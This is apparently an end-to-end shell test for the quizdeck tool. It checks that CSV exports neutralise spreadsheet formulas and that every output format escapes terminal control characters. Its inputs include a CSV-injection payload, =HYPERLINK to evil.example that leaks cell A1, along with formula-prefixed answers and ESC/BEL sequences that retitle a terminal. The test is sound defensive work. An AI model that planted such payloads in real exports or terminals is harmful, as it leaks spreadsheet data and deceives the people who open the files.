#!/bin/sh
# quizdeck results --csv for spreadsheets: names and answers that look like
# formulas (=HYPERLINK(...), +1, -2, @x, a leading TAB) are neutralised with
# a leading ' in every CSV (rows, --questions, --grid), and control
# characters (a name holding ESC ]0;... BEL, which retitles a terminal) are
# escaped in every output format. The grid is read back with Python's csv
# module, as a spreadsheet would (skipped, 77, without python3).
#
# usage: results-csv.sh QUIZDECK SRC WORKDIR
set -eu
. "${0%/*}/lib.sh"
q=$1 src=$2
deck=$src/tests/e2e/decks/quiz.yaml
qd_env "$3"
w=$WORK
command -v python3 > /dev/null 2>&1 || { echo "results-csv: skipped: no python3"; exit 77; }

esc=$(printf '\033')
bel=$(printf '\007')
tab=$(printf '\t')
n=0
# take NAME ANSWERS: a quiz (seed 3: sky, mozilla, cargo, six-times-seven)
take() {
	n=$((n + 1))
	printf "$2" | QUIZDECK_DATA="$w/s$n" QUIZDECK_NOW=2026-03-02T09:00:00Z \
		"$q" quiz "$deck" --seed 3 -n 4 --name "$1" > "$w/s$n.out" || fail "quiz $n failed"
	logs="${logs:-} $w/s$n/reviews.log"
}
take '=HYPERLINK("http://evil.example/?"&A1,"click")' 'f\n=1+1\ncargo\n42\n'
take '+1' 't\nMozilla\ncargo\n42\n'
take '-2' 'f\n@SUM(A1)\ncargo\n41\n'
take '@x' 'f\nMozilla\ncargo\n42\n'
take "${tab}tab" 'f\nMozilla\ncargo\n42\n'
take "Eve${esc}]0;pwned${bel}" "f\nMozilla\ncargo\n${esc}[8m42\n"
mkdir -p "$XDG_DATA_HOME/quizdeck/decks"
cp "$deck" "$XDG_DATA_HOME/quizdeck/decks/"

for how in "" "--csv" "--csv --questions" "--csv --grid" "--json"; do
	# shellcheck disable=SC2086
	"$q" results $how $logs > "$w/out" 2> "$w/err" || fail "results $how failed"
	if grep -q "$esc" "$w/out" "$w/err" || grep -q "$bel" "$w/out" "$w/err"; then
		fail_later "results $how: a raw ESC or BEL reached the output"
	fi
	cp "$w/out" "$w/out.${how:-plain}"
done

# The rows' columns are unchanged; the cells are neutralised and escaped.
grep -qF "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"," "$w/out.--csv" ||
	fail_later "CSV: =HYPERLINK not neutralised"
grep -q "^\"'+1\"," "$w/out.--csv" || fail_later "CSV: +1 not neutralised"
grep -qF 'Eve^[]0;pwned^G,1772442000000-3,' "$w/out.--csv" ||
	grep -q "^Eve^\[\]0;pwned^G," "$w/out.--csv" || fail_later "CSV: ESC not shown as ^["
grep -qF ",\"'=1+1 (1); @SUM(A1) (1)\"" "$w/out.--csv --questions" ||
	fail_later "CSV questions: =1+1 not neutralised"
grep -qF ',^[[8m42 (1); 41 (1)' "$w/out.--csv --questions" ||
	fail_later "CSV questions: ESC in an answer not shown as ^["
grep -qF '"Eve\u001b]0;pwned\u0007"' "$w/out.--json" || fail_later "JSON: ESC not escaped"

# A CSV parser reads the grid: one row per student, one column per question.
python3 - "$w/out.--csv --grid" <<'PY' || fail_later "the grid does not read back"
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f))
head, body = rows[0], rows[1:]
assert head == ["name", "quiz_id", "score", "max_score", "check", "quiz-test/cargo",
                "quiz-test/mozilla", "quiz-test/six-times-seven", "quiz-test/sky"], head
assert len(body) == 6, body
names = [r[0] for r in body]
for want in ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1", "'-2", "'@x",
             "'\ttab", "Eve^[]0;pwned^G"]:
    assert want in names, (want, names)
for r in body:
    assert len(r) == len(head), r
    assert not r[0][:1] in "=+-@\t\r" or r[0] == "", r[0]
    assert all(c in ("0", "1", "") for c in r[5:]), r
by = {r[0]: r for r in body}
# +1 answered sky wrong, the rest right
assert by["'+1"][5:] == ["1", "1", "1", "0"], by["'+1"]
assert by["'-2"][7] == "0", by["'-2"]
PY
finish
